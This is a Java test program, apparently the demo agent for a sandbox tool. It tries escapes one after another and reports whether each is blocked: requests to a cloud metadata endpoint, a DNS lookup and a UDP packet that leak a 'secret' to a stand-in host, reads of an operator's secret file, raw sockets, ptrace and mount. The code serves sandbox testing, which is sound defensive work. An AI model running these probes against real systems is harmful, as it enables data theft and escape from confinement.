// The agent of `clawhold demo`, an ordinary Java program: no proxy, no library, no knowledge of
// the sandbox. It tries what a program tries that was led astray, and prints a line for each.
//
//     java Agent.java ADDRESS PORT LOOPBACK_PORT OUTSIDE
//
// ADDRESS PORT    where a service listens in this machine's network (TCP and UDP)
// LOOPBACK_PORT   where another one listens on this machine's 127.0.0.1
// OUTSIDE         a directory of the operator's, with a secret.txt and a settings.txt

import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemoryLayout;
import java.lang.foreign.ValueLayout;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.regex.Pattern;
import java.util.stream.LongStream;

static final String API = "https://api.demo.test/";
static final String FILES = "https://files.demo.test/";
static final Duration PATIENCE = Duration.ofSeconds(10);
static final HttpClient WEB =
        HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(PATIENCE)
                .build();

void main(String[] arguments) throws Exception {
    var address = InetAddress.getByName(arguments[0]);
    var service = new InetSocketAddress(address, Integer.parseInt(arguments[1]));
    var onLoopback = new InetSocketAddress("127.0.0.1", Integer.parseInt(arguments[2]));
    var outside = Path.of(arguments[3]);

    attempt("listed", () -> get(API));
    attempt("unlisted", () -> get(FILES));
    attempt("metadata", () -> get("http://169.254.169.254/latest/meta-data/"));
    attempt("lan", () -> connect(service));
    attempt("host-loopback", () -> connect(onLoopback));
    attempt("own-loopback", this::serveMyself);
    attempt("lookup", () -> InetAddress.getByName("s3cret.leak.test").getHostAddress());
    attempt("dns-packet", () -> send(service, "s3cret"));

    attempt("write-inside", () -> write(Path.of("notes.txt")));
    attempt("read-outside", () -> Files.readString(outside.resolve("secret.txt")));
    attempt("write-outside", () -> write(outside.resolve("settings.txt")));

    attempt("socket", () -> call("socket", 2, 1, 0)); // AF_INET, SOCK_STREAM
    attempt("raw-socket", () -> call("socket", 17, 3, 0)); // AF_PACKET, SOCK_RAW
    attempt("ptrace", () -> call("ptrace", 2, 1, 0, 0)); // PTRACE_PEEKDATA
    attempt("mount", this::mount);

    say("wait", "for the operator to let it", FILES);
    attempt("edited", () -> getWhenLet(FILES));
    attempt("cut", () -> download(FILES + "slow"));
    attempt("edited-back", () -> get(FILES));
}

interface Deed {
    String run() throws Throwable;
}

void attempt(String name, Deed deed) {
    try {
        say(name, "worked", deed.run());
    } catch (Denied e) {
        say(name, "failed", e.getMessage(), e.hint);
    } catch (FileSystemException e) {
        say(name, "failed", e.getReason() == null ? "no such file" : e.getReason());
    } catch (Throwable e) {
        say(name, "failed", e.getMessage() == null ? e.toString() : e.getMessage());
    }
}

void say(String... words) {
    IO.println(String.join("\t", words));
}

// ---- over the network

static final class Denied extends IOException {
    final String hint;

    Denied(int status, String body) {
        super(status + " " + field(body, "reason"));
        hint = field(body, "hint");
    }

    static String field(String json, String name) {
        var found = Pattern.compile("\"" + name + "\":\"([^\"]*)\"").matcher(json);
        return found.find() ? found.group(1) : "";
    }
}

String get(String url) throws Exception {
    var request = HttpRequest.newBuilder(URI.create(url)).timeout(PATIENCE).build();
    var response = WEB.send(request, HttpResponse.BodyHandlers.ofString());
    if (response.statusCode() != 200) {
        throw new Denied(response.statusCode(), response.body());
    }
    return "200 " + response.body();
}

String getWhenLet(String url) throws Exception {
    for (long end = System.nanoTime() + PATIENCE.toNanos(); ; Thread.sleep(5)) {
        try {
            return get(url);
        } catch (Denied e) {
            if (System.nanoTime() > end) {
                throw e;
            }
        }
    }
}

String download(String url) throws Exception {
    var request = HttpRequest.newBuilder(URI.create(url)).build();
    var response = WEB.send(request, HttpResponse.BodyHandlers.ofInputStream());
    if (response.statusCode() != 200) {
        throw new Denied(response.statusCode(), new String(response.body().readAllBytes()));
    }
    long bytes = 0;
    try (var body = response.body()) {
        while (body.read() >= 0) {
            if (++bytes == 1) {
                say("wait", "for the operator to forbid it", url);
            }
        }
    } catch (IOException e) {
        throw new IOException("cut", e);
    }
    return "read to its end";
}

String connect(InetSocketAddress to) throws IOException {
    try (var socket = new Socket()) {
        socket.connect(to, (int) PATIENCE.toMillis());
        return "connected";
    }
}

String serveMyself() throws IOException {
    try (var server = new ServerSocket(0, 1, InetAddress.getByName("127.0.0.1"))) {
        connect(new InetSocketAddress("127.0.0.1", server.getLocalPort()));
        server.accept().close();
        return "connected";
    }
}

String send(InetSocketAddress to, String what) throws IOException {
    try (var socket = new DatagramSocket()) {
        socket.send(new DatagramPacket(what.getBytes(), what.length(), to));
        return "sent";
    }
}

// ---- files

String write(Path file) throws IOException {
    Files.writeString(file, "the agent was here\n");
    return "written";
}

// ---- system calls, through libc; every argument fits a register

static final Linker LIBC = Linker.nativeLinker();
static final Map<Integer, String> ERRORS = Map.of(1, "EPERM", 13, "EACCES", 97, "EAFNOSUPPORT");

String call(String function, long... arguments) throws Throwable {
    var longs = Collections.nCopies(arguments.length, ValueLayout.JAVA_LONG);
    var type = FunctionDescriptor.of(ValueLayout.JAVA_INT, longs.toArray(MemoryLayout[]::new));
    var keepErrno = Linker.Option.captureCallState("errno");
    try (var arena = Arena.ofConfined()) {
        var state = arena.allocate(Linker.Option.captureStateLayout());
        var parameters = new ArrayList<Object>(List.of(state));
        LongStream.of(arguments).forEach(parameters::add);
        var address = LIBC.defaultLookup().findOrThrow(function);
        var result = LIBC.downcallHandle(address, type, keepErrno).invokeWithArguments(parameters);
        if ((int) result < 0) {
            int errno = state.get(ValueLayout.JAVA_INT, 0);
            throw new IOException(ERRORS.getOrDefault(errno, "errno " + errno));
        }
        return "worked";
    }
}

// On a directory of its own: wherever this should work, nothing is hidden by it.
String mount() throws Throwable {
    var place = Files.createDirectories(Path.of("mnt"));
    try (var arena = Arena.ofConfined()) {
        long none = arena.allocateFrom("none").address();
        long on = arena.allocateFrom(place.toString()).address();
        var result = call("mount", none, on, arena.allocateFrom("tmpfs").address(), 0, 0);
        call("umount", on);
        return result;
    }
}
